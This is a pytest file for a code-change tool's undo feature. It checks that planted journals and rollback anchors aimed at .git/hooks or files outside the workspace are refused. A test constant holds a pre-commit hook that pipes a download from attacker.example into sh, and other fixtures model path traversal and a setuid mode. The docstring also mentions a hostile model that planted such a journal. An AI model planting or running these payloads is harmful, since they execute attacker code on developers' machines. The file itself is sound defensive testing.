"""Undo state is never trusted from the tree: planted journals and anchors write nothing.

The attacks of issue 18, as a hostile repository or model would run them, against the real
CLI in subprocesses: a journal committed in the repository (beside the ledger, or beside a
ledger the repository's config moved) whose `root` is `.git/hooks`; an anchor committed in the
repository that names a file outside the workspace; unsealed, re-rooted or re-pathed records
in the user's state folder itself; and one repository's undo record used from another. The
property each time: no file is written under `.git/` or outside the workspace, and the command
says why it ignored the record.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from testkit.apply_ws import UPDATE, make_workspace, read_then_patch
from testkit.codex_home import write_codex_home
from testkit.loopback import LoopbackCodex
from testkit.trees import snapshot
from wishcraft.apply import apply_change, stage
from wishcraft.apply.journal import JOURNAL_FOLDER, anchor_path, write_record
from wishcraft.undo_state import state_dir_for

JOURNAL_ID = "A-20260101T000000Z-0123456789ab"
HOOK = "#!/bin/sh\ncurl https://attacker.example/x | sh\n"


def sha(text: str | None) -> str | None:
    return None if text is None else hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture()
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    make_workspace(root)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    shutil.rmtree(root / ".git" / "hooks", ignore_errors=True)
    (root / ".git" / "hooks").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "victim.txt").write_text("mine\n")
    return root


def wishcraft(
    root: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "wishcraft.cli", *args],
        cwd=root,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


def hostile_journal(workspace: Path, **changes: Any) -> dict[str, Any]:
    """The breach's journal: "undo" a pre-commit hook into `.git/hooks` (absent now)."""
    journal = {
        "version": 1,
        "id": JOURNAL_ID,
        "root": str(workspace / ".git" / "hooks"),
        "marker": str(workspace / "never.json"),
        "entries": [
            {
                "path": "pre-commit",
                "before": HOOK,
                "mode": 0o755,
                "before_sha256": sha(HOOK),
                "after_sha256": None,
                "temp": None,
            }
        ],
        "created_dirs": [],
        "ledger": None,
    }
    return journal | changes


def untouched(root: Path, outside_before: dict[str, Any]) -> None:
    """Nothing under .git/hooks, nothing new outside the workspace."""
    assert list((root / ".git" / "hooks").iterdir()) == []
    assert snapshot(root.parent / "outside") == outside_before


@pytest.mark.parametrize("moved_ledger", [False, True], ids=["beside-ledger", "moved-ledger"])
def test_a_journal_committed_in_the_repository_is_never_acted_on(
    ws: Path, tmp_path: Path, codex: LoopbackCodex, moved_ledger: bool
) -> None:
    outside = snapshot(tmp_path / "outside")
    folder = ws / "data" / "ledger"
    if moved_ledger:  # what a hostile model did: move the ledger, then add a journal
        (ws / "data" / "config").mkdir()
        (ws / "data" / "config" / "wishcraft.toml").write_text(
            '[ledger]\npath = "elsewhere/wishes.jsonl"\n'
        )
        folder = ws / "elsewhere"
    planted = folder / "anchors" / "journal" / f"{JOURNAL_ID}.json"
    planted.parent.mkdir(parents=True)
    planted.write_text(json.dumps(hostile_journal(ws)))
    codex.enqueue("responses", *read_then_patch(UPDATE))
    home = write_codex_home(tmp_path / "home")
    done = wishcraft(
        ws,
        "apply",
        str(ws / "data" / "wishes" / "lamps.wish.yaml"),
        "--yes",
        env={
            "CODEX_HOME": str(home),
            "CHATGPT_BASE_URL": codex.base_url,
            "CODEX_REFRESH_TOKEN_URL_OVERRIDE": codex.refresh_url,
        },
    )
    assert done.returncode == 0, done.stderr  # an ordinary apply, as in the breach
    untouched(ws, outside)
    assert json.loads(planted.read_text())["root"].endswith("hooks")  # left as it was
    # Said once, by the apply, with where the state lives now.
    assert "are no longer read" in done.stderr and str(state_dir_for(ws)) in done.stderr
    again = wishcraft(ws, "recover")
    assert "no longer read" not in again.stderr
    untouched(ws, outside)


def _sealed(root: Path, journal: dict[str, Any]) -> None:
    folder = state_dir_for(root) / JOURNAL_FOLDER
    folder.mkdir(parents=True, exist_ok=True)
    write_record(folder / f"{JOURNAL_ID}.json", "journal", json.dumps(journal))


def _entry(path: str, mode: int = 0o755) -> dict[str, Any]:
    return {
        "path": path,
        "before": HOOK,
        "mode": mode,
        "before_sha256": sha(HOOK),
        "after_sha256": None,
        "temp": None,
    }


def _unsealed(root: Path) -> None:
    folder = state_dir_for(root) / JOURNAL_FOLDER
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{JOURNAL_ID}.json").write_text(json.dumps(hostile_journal(root, root=str(root))))


PLANTS: dict[str, Callable[[Path], None]] = {
    # Written into the user's state folder by someone without the key: no seal.
    "unsealed": _unsealed,
    # Sealed (the key was used), but each with one thing the apply would never write.
    "root-is-git-hooks": lambda root: _sealed(root, hostile_journal(root)),
    "root-elsewhere": lambda root: _sealed(root, hostile_journal(root, root=str(root.parent))),
    "path-under-git": lambda root: _sealed(
        root, hostile_journal(root, root=str(root), entries=[_entry(".git/hooks/pre-commit")])
    ),
    "path-escapes": lambda root: _sealed(
        root, hostile_journal(root, root=str(root), entries=[_entry("../outside/victim.txt")])
    ),
    "setuid-mode": lambda root: _sealed(
        root, hostile_journal(root, root=str(root), entries=[_entry("run.sh", 0o4755)])
    ),
    "temp-elsewhere": lambda root: _sealed(
        root,
        hostile_journal(
            root,
            root=str(root),
            entries=[_entry("src/lamps.py") | {"temp": "../../outside/victim.txt"}],
        ),
    ),
}


@pytest.mark.parametrize("plant", list(PLANTS))
def test_a_journal_in_the_state_folder_that_is_not_ours_is_set_aside(
    ws: Path, tmp_path: Path, plant: str
) -> None:
    outside = snapshot(tmp_path / "outside")
    before = snapshot(ws)
    PLANTS[plant](ws)
    done = wishcraft(ws, "recover")
    assert done.returncode == 1, done.stderr
    assert "was set aside, not acted on" in done.stderr
    untouched(ws, outside)
    assert snapshot(ws) == before and not (ws / "run.sh").exists()
    assert list((state_dir_for(ws) / JOURNAL_FOLDER).glob("*.conflict.json"))


def hostile_anchor(root: Path, victim: Path, **changes: Any) -> dict[str, Any]:
    """An undo record that "restores" a file outside the workspace."""
    return {
        "version": 1,
        "anchor_id": JOURNAL_ID,
        "created": "2026-01-01T00:00:00Z",
        "root": str(victim.parent),
        "diff_hash": "0" * 64,
        "files": [
            {
                "path": victim.name,
                "before_sha256": sha("pwned\n"),
                "after_sha256": sha(victim.read_text()),
                "before": "pwned\n",
                "mode": 0o644,
            }
        ],
        "created_dirs": [],
        "meta": {},
    } | changes


def test_an_anchor_committed_in_the_repository_is_not_an_anchor(ws: Path, tmp_path: Path) -> None:
    victim = tmp_path / "outside" / "victim.txt"
    outside = snapshot(tmp_path / "outside")
    planted = ws / "data" / "ledger" / "anchors" / f"{JOURNAL_ID}.json"
    planted.parent.mkdir(parents=True)
    planted.write_text(json.dumps(hostile_anchor(ws, victim)))
    done = wishcraft(ws, "rollback", JOURNAL_ID)
    assert done.returncode == 2 and "there is no such anchor" in done.stderr
    assert snapshot(tmp_path / "outside") == outside
    # The same record put in the user's state folder, unsealed, is refused as untrusted.
    state_dir_for(ws).mkdir(parents=True, exist_ok=True)
    shutil.copy(planted, anchor_path(state_dir_for(ws), JOURNAL_ID))
    done = wishcraft(ws, "rollback", JOURNAL_ID)
    assert done.returncode == 2 and "is not trusted" in done.stderr
    assert snapshot(tmp_path / "outside") == outside


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({}, "it belongs to the workspace"),
        ({"files": "escape"}, "'..' component"),
        ({"files": "git"}, "under .git/"),
    ],
    ids=["root-outside", "path-escapes", "path-under-git"],
)
def test_a_sealed_anchor_that_leaves_the_workspace_is_refused(
    ws: Path, tmp_path: Path, changes: dict[str, Any], reason: str
) -> None:
    victim = tmp_path / "outside" / "victim.txt"
    outside = snapshot(tmp_path / "outside")
    record = hostile_anchor(ws, victim)
    if changes:
        path = "../outside/victim.txt" if changes["files"] == "escape" else ".git/hooks/pre-commit"
        record["root"] = str(ws)
        record["files"][0]["path"] = path
        record["files"][0]["after_sha256"] = None
    state = state_dir_for(ws)
    state.mkdir(parents=True, exist_ok=True)
    write_record(anchor_path(state, JOURNAL_ID), "anchor", json.dumps(record))
    done = wishcraft(ws, "rollback", JOURNAL_ID)
    assert done.returncode == 3, done.stderr
    assert reason in done.stderr
    assert snapshot(tmp_path / "outside") == outside
    assert list((ws / ".git" / "hooks").iterdir()) == []


def test_the_undo_state_of_repository_a_is_not_used_in_repository_b(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    for root in (a, b):
        make_workspace(root)
        subprocess.run(["git", "init", "-q", str(root)], check=True)
    anchor = apply_change(stage(UPDATE, a), state_dir=state_dir_for(a))
    applied = snapshot(a)
    assert state_dir_for(a) != state_dir_for(b)
    done = wishcraft(b, "rollback", anchor.anchor_id)
    assert done.returncode == 2 and "there is no such anchor" in done.stderr
    # Copied into B's folder (it verifies: same user, same key), it still names A: refused.
    state_b = state_dir_for(b)
    state_b.mkdir(parents=True)
    shutil.copy(anchor_path(state_dir_for(a), anchor.anchor_id), state_b)
    done = wishcraft(b, "rollback", anchor.anchor_id)
    assert done.returncode == 3 and f"it belongs to the workspace {a}" in done.stderr
    assert snapshot(a) == applied
    # In A it is A's own, and undoes the change.
    assert wishcraft(a, "rollback", anchor.anchor_id).returncode == 0
    assert (a / "src" / "lamps.py").read_text().startswith("lamps = 2")
